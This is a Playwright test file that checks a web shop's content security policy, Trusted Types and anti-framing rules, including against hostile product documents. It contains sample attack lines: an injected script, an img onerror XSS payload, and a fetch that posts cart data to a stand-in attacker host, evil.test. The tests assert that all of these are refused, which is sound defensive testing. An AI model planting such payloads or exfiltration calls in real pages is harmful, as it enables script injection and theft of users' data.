import type { Locator } from '@playwright/test';
import { hostileDocuments, hostileProducts } from '../support/hostileDocuments.ts';
import { expect, test } from './shop.ts';
import { productName, productSlug } from './steps.ts';

// Every other test shows that the policy does not break the shop: a violation fails it (shop.ts).

for (const [sendsHeaders, folder, heading] of [
  [true, '', 'BEST SELLING'],
  [false, `p/${productSlug}/`, productName],
] as const) {
  test.describe(`on a host that sends ${sendsHeaders ? 'the headers' : 'no headers'}`, () => {
    test.use({ sendsHeaders });

    test('injected code, markup from strings, unknown hosts and frames are blocked [F33] [F40]', async ({
      page,
      shop,
    }) => {
      await page.route(`${shop.url}/${folder}`, async (route) => {
        const response = await route.fetch();
        const injected =
          '<script>document.title = "taken over"</script><style>#root { display: none }</style>';
        const body = (await response.text()).replace('</body>', `${injected}</body>`);
        await route.fulfill({ response, body });
      });
      await page.goto(`${shop.url}/${folder}`);
      await expect(page.getByRole('contentinfo')).toBeAttached();
      await expect(page.getByRole('heading', { name: heading, exact: true })).toBeVisible();
      await expect(page).not.toHaveTitle('taken over');

      const outcomes = await page.evaluate(async () => {
        const { trustedTypes } = window as unknown as {
          trustedTypes: { createPolicy: (name: string, rules: object) => unknown };
        };
        const attempts: (() => unknown)[] = [
          () => {
            document.body.innerHTML = '<img src="x" onerror="alert(1)">';
          },
          () => {
            document.createElement('script').src = 'https://evil.test/script.js';
          },
          () => trustedTypes.createPolicy('unknown', { createHTML: (html: string) => html }),
          () => fetch('https://evil.test/collect', { method: 'POST', body: 'cart' }),
        ];
        return Promise.all(
          attempts.map(async (attempt) => {
            try {
              await attempt();
              return 'done';
            } catch (error) {
              return error instanceof TypeError ? 'refused' : String(error);
            }
          }),
        );
      });
      expect(outcomes).toEqual(['refused', 'refused', 'refused', 'refused']);
      // The page's events and the browser's logs come later. A page that is left does not report the rest.
      const expectRefusal = (pattern: RegExp) => expect(() => shop.expectProblem(pattern)).toPass();
      await expectRefusal(/Violation of script-src-elem: inline/);
      await expectRefusal(/Violation of style-src-elem: inline/);
      await expectRefusal(/Violation of require-trusted-types-for/);
      await expectRefusal(/Violation of trusted-types/);
      await expectRefusal(/Violation of connect-src: https:\/\/evil\.test\/collect/);
      if (sendsHeaders) {
        // A page cannot refuse to be framed by itself.
        await page.goto('about:blank');
        await page.setContent(`<iframe src="${shop.url}/" title="the shop"></iframe>`);
        await expect.poll(() => page.frames().at(1)?.url()).toMatch(/^chrome-error:/);
        await expectRefusal(/Framing .* violates .* "frame-ancestors 'none'"/);
      }
      shop.allowProblem(/violates|requires 'Trusted|Fetch API cannot load/);
    });
  });
}

test.describe('hostile content', () => {
  test.use({ content: { documents: hostileDocuments() }, viewport: { width: 320, height: 640 } });

  test('fits a narrow window, and sends no requests to other hosts [F34]', async ({ page, shop }) => {
    // Their files do not exist.
    await page.route(/\/local\/images\//, (route) =>
      route.fulfill({ contentType: 'image/svg+xml', body: '<svg xmlns="http://www.w3.org/2000/svg"/>' }),
    );
    const foreign: string[] = [];
    page.on('request', (request) => {
      if (!request.url().startsWith(shop.url) && !request.url().startsWith('data:'))
        foreign.push(request.url());
    });
    const expectFits = async (route: string, shown: Locator) => {
      await page.goto(`${shop.url}/#${route}`);
      await expect(shown.first()).toBeVisible();
      // Inner scroll containers may overflow.
      const overflow = () =>
        page.evaluate(() => {
          const { scrollWidth, clientWidth } = document.documentElement;
          return [...document.querySelectorAll('main *')]
            .filter((one) => scrollWidth > clientWidth && one.getBoundingClientRect().right > clientWidth + 1)
            .map(({ tagName, textContent }) => `${tagName} ${textContent.slice(0, 40)}`);
        });
      await expect.poll(overflow, route).toEqual([]);
      expect(await page.evaluate(() => Reflect.get(window, 'hacked') === undefined)).toBe(true);
    };
    const card = page.getByRole('main').getByRole('article');
    await expectFits('/', page.getByRole('heading', { name: 'BEST SELLING' }));
    await expectFits('/collections/men', card);
    for (const { _id } of hostileProducts.slice(0, 20))
      await expectFits(`/collections/${_id}`, page.getByRole('heading', { level: 1 }));
    await page.evaluate(
      (products) => {
        const rows = [
          { size: 'M', quantity: 9999 },
          { size: 'L'.repeat(200), quantity: 1 },
        ];
        const items = products.map((product) => ({
          ...product,
          selectedSize: 'M',
          selectedSizeAndQuantities: rows,
        }));
        localStorage.setItem('cartItems', JSON.stringify(items));
      },
      hostileProducts.map((product) => ({ ...product, price: 999_999.99 })),
    );
    await page.goto('about:blank');
    await expectFits('/cart', card);
    expect(foreign).toEqual([]);
    expect(new URL(page.url()).origin).toBe(new URL(shop.url).origin);
  });
});
